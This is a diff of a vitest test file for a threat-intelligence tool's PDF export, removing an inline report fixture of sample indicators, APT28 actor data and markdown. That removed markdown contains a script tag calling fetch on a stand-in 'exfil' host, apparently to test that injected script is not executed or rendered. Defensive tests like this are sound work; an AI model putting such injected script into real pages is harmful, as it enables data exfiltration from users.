@@ -1,68 +1,17 @@
 import { describe, expect, it } from 'vitest'
 import { isAppError } from '#shared/contract/errors'
-import type { Indicator } from '#shared/contract/indicators.contract'
 import type { ExportSet } from '#core/export/export-set'
 import { renderPdf } from '#core/export/pdf/render-pdf'
 import {
-  actor,
   exportSet,
   indicator,
   openPdf,
   pageTexts,
   render,
+  reportSet,
   sink,
   statsOf,
-  vulnerability,
 } from './pdf-fixture'
-
-const REPORT_MD = `# Overview
-
-APT28 used **new infrastructure** and *fresh* lures; see [the advisory](https://advisories.example/apt28).
-
-- first finding
-- second finding with \`code\`
-
-> Quoted from the vendor.
-
-| Feed | Indicators | Cadence |
-|---|---:|---|
-| abuse.ch URLhaus | 1200 | daily |
-| AlienVault OTX | 33 | hourly |
-
-![diagram of the kill chain](https://img.example/kill-chain.png)
-
-<script>fetch('https://exfil.example/')</script>
-`
-
-const reportRows = (): Indicator[] => [
-  indicator({
-    type: 'url',
-    value: 'https://evil.example.com/gate.php',
-    score: 97,
-    severity: 'critical',
-  }),
-  indicator({ type: 'domain', value: 'пример.рф', score: 90 }),
-  indicator({ type: 'domain', value: 'مثال.إختبار', score: 85, severity: 'medium' }),
-  indicator({ type: 'domain', value: '例子.测试', score: 80, severity: 'low' }),
-  indicator({ type: 'ip', value: '203.0.113.7', score: 70, severity: 'info' }),
-  indicator({ type: 'email', value: 'payroll@phish.example.org', score: 60 }),
-  indicator({ type: 'sha256', value: 'a'.repeat(64), score: 50 }),
-]
-
-const reportSet = (over: Partial<ExportSet> = {}): ExportSet =>
-  exportSet(reportRows(), {
-    title: 'APT28 spring campaign',
-    summary: 'Infrastructure and lures seen in the spring campaign.',
-    markdown: REPORT_MD,
-    entities: [
-      actor('APT28', {
-        aliases: ['Fancy Bear', 'Sofacy'],
-        description: 'A Russian espionage actor.',
-      }),
-      vulnerability('CVE-2024-3400'),
-    ],
-    ...over,
-  })
 
 /** All text of the document on one line per page, PDF.js's line breaks removed (wrapped cells rejoin). */
 const flat = (pages: readonly string[]): string => pages.map((p) => p.replace(/\n/g, '')).join('\n')
